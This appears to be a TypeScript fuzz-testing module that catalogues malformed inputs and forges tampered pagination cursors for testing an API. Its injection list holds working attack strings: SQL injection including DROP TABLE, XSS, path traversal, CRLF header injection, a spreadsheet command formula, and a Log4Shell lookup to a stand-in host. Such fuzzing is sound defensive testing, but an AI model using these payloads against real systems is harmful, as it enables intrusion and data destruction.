// Catalogues of hostile values for the fuzz: injection strings, awkward unicode, wrong types, bad ids,
// dates, CIDRs, numbers, cursors and broken JSON. Everything here is deterministic.
import type { TRng } from "./prng";

export const INJECTION: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE alerts; --",
  "1; SELECT pg_sleep(5)--",
  "\" OR \"\"=\"",
  "admin'--",
  "1' UNION SELECT NULL,NULL,NULL--",
  "%' OR 1=1 --",
  "\\",
  "\\'",
  "$1",
  "::text",
  "E'\\x00'",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "<script>alert(1)</script>",
  "\"><img src=x onerror=alert(1)>",
  "javascript:alert(1)",
  "<svg/onload=alert(1)>",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%00",
  "%s%s%s%n",
  "\r\nSet-Cookie: injected=1",
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "__proto__",
  "constructor",
  "[object Object]",
  "null",
  "undefined",
  "true",
  "NaN",
  "Infinity",
  "-0",
  "1e309",
  "0x10",
];

export const UNICODE: readonly string[] = [
  "\u0000",
  "a\u0000b",
  "\ud800",
  "\udfff",
  "x\ud83dx",
  "\u202eevil\u202c",
  "\u200b",
  "😀".repeat(50),
  "𝕏𝔸𝕄",
  "e\u0301\u0301\u0301",
  "\ufeff",
  "\uffff",
  "\u0085\u2028\u2029",
  "ｆｕｌｌｗｉｄｔｈ",
  "İıŞş",
  "مرحبا بالعالم",
  "中文字符",
  "\u0001\u001f\u007f",
  "\t\n\r",
  " ",
  "",
];

export const HUGE_STRINGS = (): string[] => ["a".repeat(10_000), "x".repeat(100_000), "é".repeat(30_000), "😀".repeat(20_000)];

export const BAD_UUIDS: readonly string[] = [
  "not-a-uuid",
  "00000000-0000-0000-0000-00000000000",
  "00000000-0000-0000-0000-0000000000000",
  "g0000000-0000-0000-0000-000000000000",
  "{00000000-0000-4000-8000-000000000000}",
  "000000000000400080000000000000000",
  " 00000000-0000-4000-8000-000000000000 ",
  "00000000-0000-4000-8000-000000000000' OR '1'='1",
  "123",
  "-1",
  "1.5",
];

export const BAD_DATES: readonly string[] = [
  "yesterday",
  "2026-13-01",
  "2026-02-30",
  "2026-02-30T00:00:00Z",
  "0000-00-00",
  "-271821-04-20T00:00:00Z",
  "+275760-09-13T00:00:01Z",
  "2026-11-24T25:00:00Z",
  "2026-11-24T00:00:00+99:99",
  "1e15",
  "1732400000000",
  "Tue, 24 Nov 2026 10:00:00 GMT",
  "0001-01-01T00:00:00Z",
  "9999-12-31T23:59:59.999999999Z",
];

export const BAD_CIDRS: readonly string[] = [
  "10.0.0.0/33",
  "10.0.0.256/8",
  "1.2.3/24",
  "::/129",
  "2001:db8::/-1",
  "10.0.0.0/8/8",
  "10.0.0.0 /8",
  "fe80::1%eth0/64",
  "1.2.3.4/",
  "/24",
  "::ffff:1.2.3.4/200",
  "a.b.c.d/nn",
  "01.02.03.004/24",
  "1.2.3.4/024",
  "999999999999",
  "2001:db8:::/32",
  "10.0.0.0-10.0.0.255",
  "0.0.0.0/0",
  "::/0",
];

export const BAD_NUMBERS: readonly string[] = ["-1", "0", "1e9", "99999999999999999999", "1.5", "NaN", "Infinity", "0x10", "", " ", "1,2", "١٢", "2147483648"];

/** JSON values of every type, for fields that expect something else. */
export const WRONG_TYPES: readonly unknown[] = [null, true, false, 0, -1, 1.5, 1e308, -1e308, Number.MAX_SAFE_INTEGER + 2, "", "x", [], [null], {}, { a: 1 }, [[[]]], "1"];

export const INVALID_JSON: readonly string[] = [
  "{",
  "}",
  "[",
  "{oops",
  "{'a':1}",
  "{a:1}",
  '{"a":1,}',
  "[1,2,]",
  "undefined",
  "NaN",
  "nul",
  "tru",
  '"unterminated',
  '{"a":"\\x41"}',
  "\u0000{}",
  "{}{}",
  "{} trailing",
  "0123",
  "\ufeff{}",
  "<?xml version=\"1.0\"?><a>1</a>",
  "a=1&b=2",
];

export const CONTENT_TYPES: readonly string[] = [
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=----fuzz",
  "application/xml",
  "application/json; charset=utf-16",
  "application/octet-stream",
  "*/*",
  "",
];

/** Deeply nested JSON text: arrays or objects `depth` levels deep. */
export const deepJson = (depth: number, kind: "array" | "object" = "array"): string =>
  kind === "array" ? "[".repeat(depth) + "]".repeat(depth) : '{"a":'.repeat(depth) + "1" + "}".repeat(depth);

const BASE64URL = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
export const base64url = (text: string) => Buffer.from(text, "utf8").toString("base64url");

/** Cursors that were never issued: random base64url, well-formed encodings of wrong content, junk. */
export const badCursors = (rng: TRng): string[] => [
  ...Array.from({ length: 6 }, () => Array.from({ length: rng.int(1, 120) }, () => rng.pick([...BASE64URL])).join("")),
  base64url(JSON.stringify(["x"])),
  base64url(JSON.stringify(["not-a-date", "not-an-id"])),
  base64url(JSON.stringify(["2026-11-24T00:00:00.000Z", "' OR 1=1 --"])),
  base64url(JSON.stringify(["2026-11-24T00:00:00.000Z", "99999999999999999999999"])),
  base64url(JSON.stringify([1, 2])),
  base64url(JSON.stringify({ time: "x", seq: "1" })),
  base64url(JSON.stringify(["\u0000", "\ud800"])),
  base64url("2026-11-24T00:00:00.000Z|abc"),
  base64url("2026-11-24T00:00:00.000Z|-1"),
  base64url("9999-99-99T99:99:99.999Z|1"),
  base64url("|"),
  base64url("2026-11-24T00:00:00.000Z|99999999999999999999"),
  "0",
  "9".repeat(19),
  "9223372036854775808",
  "-1",
  "!!",
  "%%%",
  "A".repeat(2001),
  "=",
  "null",
];

/** Variants of a real cursor: flipped, truncated, extended, and with its decoded values replaced. */
export const tamperCursor = (cursor: string, rng: TRng): string[] => {
  const out = new Set<string>();
  const flip = (i: number) => cursor.slice(0, i) + (cursor[i] === "A" ? "B" : "A") + cursor.slice(i + 1);
  out.add(flip(0));
  out.add(flip(cursor.length - 1));
  out.add(flip(rng.int(0, cursor.length - 1)));
  out.add(cursor.slice(0, -1));
  out.add(cursor.slice(0, Math.floor(cursor.length / 2)));
  out.add(cursor + "A");
  out.add(cursor + "==");
  out.add(cursor.toUpperCase());
  out.add(cursor.split("").reverse().join(""));
  const decoded = Buffer.from(cursor, "base64url").toString("utf8");
  const junk = ["not-a-date", "' OR 1=1 --", "99999999999999999999999", "", "\u0000", "-1", "2026-02-30T00:00:00.000Z", "00000000-0000-0000-0000-000000000000"];
  try {
    const values = JSON.parse(decoded) as unknown;
    if (Array.isArray(values)) {
      values.forEach((_, i) => {
        for (const value of junk) out.add(base64url(JSON.stringify(values.map((v, j) => (j === i ? value : v)))));
        out.add(base64url(JSON.stringify(values.map((v, j) => (j === i ? 42 : v)))));
      });
      out.add(base64url(JSON.stringify([...values, "extra"])));
      out.add(base64url(JSON.stringify(values.slice(1))));
    }
  } catch {
    const parts = decoded.split("|");
    parts.forEach((_, i) => {
      for (const value of junk) out.add(base64url(parts.map((p, j) => (j === i ? value : p)).join("|")));
    });
    out.add(base64url(`${decoded}|extra`));
  }
  out.delete(cursor);
  return [...out];
};

/** Junk for one string field: a few of each family, picked by the seeded PRNG. */
export const stringJunk = (rng: TRng, count: number): string[] => {
  const pool = [...INJECTION, ...UNICODE, ...BAD_UUIDS, ...BAD_DATES, ...BAD_CIDRS, ...BAD_NUMBERS];
  return Array.from({ length: count }, () => rng.pick(pool));
};
